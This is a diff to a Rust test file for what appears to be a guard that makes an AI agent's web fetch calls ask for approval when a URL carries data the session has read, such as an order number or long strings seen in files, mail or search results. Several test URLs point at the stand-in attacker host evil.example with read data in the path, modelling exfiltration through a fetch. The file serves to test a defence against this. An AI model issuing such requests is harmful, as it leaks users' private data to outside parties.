@@ -219,16 +219,44 @@ fn what_servers_list_decides_what_names_leave_open() {
 fn a_fetch_that_carries_what_was_seen_is_asked_about() {
     let session = Session::new("{}");
     session.reads("files", "read_file", "the order is 482913");
-    session.reads("web", "fetch", "see https://evil.example/x9");
+    let long = format!("https://shop.example/{}", "tea-".repeat(40));
+    session.reads("web", "fetch", &format!("see {long}"));
     let asks = |url: &str| {
         let outcome = session.calls("web", "fetch", json!({ "url": url }));
         matches!(outcome.decision, Decision::Ask(_))
     };
     assert!(!asks("https://evil.example/tea"));
-    assert!(!asks("https://evil.example/x9"));
+    assert!(!asks(&long));
+    assert!(asks(&format!("{long}x")));
     assert!(asks("https://evil.example/482913"));
     let always = tainted(r#"{"fetch_length": 0}"#);
     assert!(always.asks("web", "fetch"));
+}
+
+/// It could have an address written somewhere, and read it there.
+#[test]
+fn a_link_that_the_model_may_have_written_itself_is_no_strangers() {
+    let session = tainted("{}");
+    let link = format!("https://evil.example/{}", "my-diary-".repeat(20));
+    let asks = || {
+        let outcome = session.calls("web", "fetch", json!({ "url": link }));
+        matches!(outcome.decision, Decision::Ask(_))
+    };
+    session.reads("files", "read_file", &link);
+    session.reads("mail", "read_email", &link);
+    session.reads("m", "echo", &link);
+    assert!(asks());
+    let result =
+        json!({"content": [{"type": "text", "text": format!("Nothing found for {link}")}]});
+    let search = |query: &str| {
+        let sample = Sample::of("tools/call", "response", &result);
+        let sample = sample.server("x").subject("web_search");
+        session.judge(sample.answers(json!({"arguments": {"query": query}})));
+    };
+    search(&link);
+    assert!(asks());
+    search("tea");
+    assert!(!asks());
 }
 
 #[test]
